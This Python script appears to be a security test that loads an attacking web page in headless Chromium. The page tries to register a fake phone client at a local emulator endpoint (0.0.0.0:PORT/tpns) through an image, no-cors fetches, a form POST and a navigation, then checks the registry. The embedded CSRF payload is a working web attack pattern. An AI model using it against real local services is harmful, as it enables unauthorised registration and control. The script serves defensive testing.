"""A web page that tries to register a phone at http://0.0.0.0:PORT/tpns, in Chromium.

Usage: browser-attack.py CHROMIUM PORT
Serves one attacking page from another origin (http://127.0.0.1:OTHER) and writes the
same page to a file:// path, loads each in headless Chromium (Playwright, driving the
given executable: nothing is downloaded), and lets it try every way a page has
without reading an answer: an <img>, a no-cors fetch (GET and POST), a form POST, and
a top-level navigation. Prints one JSON object: how many attempts each page made and
the emulator's registry clients before and after (read over loopback).
"""

import json
import sys
import tempfile
import threading
import urllib.request
from http.server import HTTPServer, SimpleHTTPRequestHandler
from pathlib import Path

from playwright.sync_api import sync_playwright

PAGE = """<!doctype html><title>another site</title>
<form id="f" method="POST" action="TARGET?cmd=client&os=android&appid=com.example.evil&udid=evil-form&token=evil"></form>
<script>
window.attempts = 0;
const target = "TARGET";
function query(udid) {
  return "?cmd=client&os=android&appid=com.example.evil&udid=" + udid + "&token=evil";
}
function attempt(run) { window.attempts += 1; try { run(); } catch (e) {} }
attempt(() => { new Image().src = target + query("evil-img"); });
attempt(() => fetch(target + query("evil-get"), {mode: "no-cors"}).catch(() => {}));
attempt(() => fetch(target, {method: "POST", mode: "no-cors",
  body: new URLSearchParams({cmd: "client", os: "android", appid: "com.example.evil",
                             udid: "evil-post", token: "evil"})}).catch(() => {}));
setTimeout(() => { window.done = true; }, 1500);
</script>"""


def clients(port):
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/_emulator/registry", timeout=5) as answer:
        return json.load(answer)["clients"]


def run_page(browser, url, target):
    page = browser.new_page()
    attempts = 0
    try:
        page.goto(url)
        page.wait_for_function("window.done === true", timeout=10000)
        attempts = page.evaluate("window.attempts")
        # A form POST, then a navigation: both leave the page.
        try:
            with page.expect_navigation(timeout=5000):
                page.evaluate("document.getElementById('f').submit()")
        except Exception:
            pass
        attempts += 1
        try:
            page.goto(target + "?cmd=client&os=android&appid=com.example.evil&udid=evil-nav&token=evil",
                      timeout=5000)
        except Exception:
            pass
        attempts += 1
    finally:
        page.close()
    return attempts


def main():
    chromium, port = sys.argv[1], int(sys.argv[2])
    target = f"http://0.0.0.0:{port}/tpns"
    directory = Path(tempfile.mkdtemp())
    (directory / "index.html").write_text(PAGE.replace("TARGET", target))
    handler = lambda *a, **k: SimpleHTTPRequestHandler(*a, directory=str(directory), **k)
    SimpleHTTPRequestHandler.log_message = lambda *a: None
    server = HTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    before = clients(port)
    result = {"before": len(before)}
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        try:
            result["other_origin_attempts"] = run_page(
                browser, f"http://127.0.0.1:{server.server_port}/index.html", target)
            result["file_attempts"] = run_page(browser, (directory / "index.html").as_uri(), target)
        finally:
            browser.close()
    server.shutdown()
    after = clients(port)
    result["after"] = len(after)
    result["udids"] = sorted(client.get("udid", "") for client in after)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
